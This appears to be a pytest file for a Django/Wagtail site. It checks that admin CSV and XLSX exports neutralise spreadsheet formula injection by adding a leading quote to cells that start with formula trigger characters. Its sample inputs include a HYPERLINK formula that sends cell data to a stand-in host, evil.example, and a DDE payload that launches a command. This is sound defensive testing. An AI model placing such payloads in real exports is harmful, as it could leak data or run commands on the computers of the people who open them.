"""Admin exports: a cell a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from core.exports import neutralise_formula
from tests.factories.applicants import InterestFormPageFactory
from tests.factories.curriculum import TrackFactory
from tests.factories.people import CohortFactory, EnrollmentFactory, PersonFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Dana Reyes", "", "a=b", " =1", 42, -3, None])
def test_other_values_are_left_as_they_came(value):
    assert neutralise_formula(value) == value


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def assert_no_formula_cells(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)


def xlsx_cells(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


@pytest.fixture
def staff(verified_client, admin_user):
    return verified_client.sign_in(admin_user)


@pytest.mark.django_db
def test_staff_export_interest_form_answers_without_runnable_formulas(staff, home_page):
    form_page = InterestFormPageFactory(parent=home_page)
    form_page.form_fields.filter(clean_name="message").update(label="=Message to staff")
    FormSubmission.objects.create(
        page=form_page,
        form_data={
            "name": FORMULAS[0],
            "email": "dana@example.org",
            "track_of_interest": FORMULAS[3],
            "message": FORMULAS[1],
        },
    )
    url = reverse("wagtailforms:list_submissions", args=(form_page.pk,))
    rows = csv_rows(staff.get(url + "?export=csv"))
    assert_no_formula_cells(rows)
    assert "'=Message to staff" in rows[0]  # an editor's label is a heading
    assert "'" + FORMULAS[0] in rows[1]
    assert "'" + FORMULAS[1] in rows[1]
    assert "dana@example.org" in rows[1]  # plain values are untouched

    # XLSX cells are typed: the text arrives as text, never as a formula.
    cells = xlsx_cells(staff.get(url + "?export=xlsx"))
    assert all(cell.data_type != "f" for cell in cells)
    assert FORMULAS[0] in [cell.value for cell in cells]


@pytest.mark.django_db
def test_staff_export_people_without_runnable_formulas(staff):
    PersonFactory(
        first_name="=1+1", last_name="@Rivers", job_title=FORMULAS[1], private=True
    )
    url = reverse("wagtailsnippets_people_person:list")
    rows = csv_rows(staff.get(url + "?export=csv"))
    assert len(rows) == 2
    assert_no_formula_cells(rows)
    assert rows[1][:3] == ["'=1+1", "'@Rivers", "'" + FORMULAS[1]]
    cells = xlsx_cells(staff.get(url + "?export=xlsx"))
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.django_db
def test_staff_export_cohorts_and_enrollments_without_runnable_formulas(staff):
    cohort = CohortFactory(track=TrackFactory(name="=Superintendent track"))
    EnrollmentFactory(cohort=cohort, person__first_name="-Ada", person__last_name="X")

    rows = csv_rows(staff.get(reverse("cohorts:index") + "?export=csv"))
    assert len(rows) == 2
    assert_no_formula_cells(rows)
    assert "'=Superintendent track" in rows[1]

    rows = csv_rows(staff.get(reverse("enrollments:index") + "?export=csv"))
    assert len(rows) == 2
    assert_no_formula_cells(rows)
    assert "'-Ada X" in rows[1]
    assert "'=Superintendent track — Class of 2012" in rows[1]


@pytest.mark.django_db
def test_staff_export_wagtails_reports_without_runnable_formulas(staff, home_page):
    """Site history, locked pages, aging pages, redirects and search terms: text a
    participant or visitor wrote reaches these exports too."""
    from django.utils import timezone
    from wagtail.contrib.redirects.models import Redirect
    from wagtail.contrib.search_promotions.models import Query

    from tests.factories.home import ContentPageFactory

    page = ContentPageFactory(parent=home_page, title=FORMULAS[0])
    page.save_revision(log_action=True).publish()
    page.locked, page.locked_at = True, timezone.now()
    page.save()
    Redirect.objects.create(old_path="/old", redirect_link=FORMULAS[3])
    Query.get(FORMULAS[1]).add_hit()

    for name in (
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailredirects:index",
        "wagtailsearchpromotions:search_terms",
    ):
        url = reverse(name)
        assert staff.get(url).status_code == 200, name  # the screen still works
        rows = csv_rows(staff.get(url + "?export=csv"))
        assert_no_formula_cells(rows)

    def exported(name):
        response = staff.get(reverse(name) + "?export=csv")
        return [cell for row in csv_rows(response) for cell in row]

    assert "'" + FORMULAS[0] in exported("wagtailadmin_reports:site_history")
    assert "'" + FORMULAS[0] in exported("wagtailadmin_reports:locked_pages")
    assert "'" + FORMULAS[3] in exported("wagtailredirects:index")
    # Wagtail stores search terms in lower case.
    terms = exported("wagtailsearchpromotions:search_terms")
    assert "'" + FORMULAS[1].lower() in terms


@pytest.mark.django_db
def test_participants_cannot_open_the_rerouted_reports(client, participant_user):
    client.force_login(participant_user)
    for name in ("wagtailadmin_reports:site_history", "wagtailredirects:index"):
        response = client.get(reverse(name) + "?export=csv")
        assert response.status_code in (302, 403), name
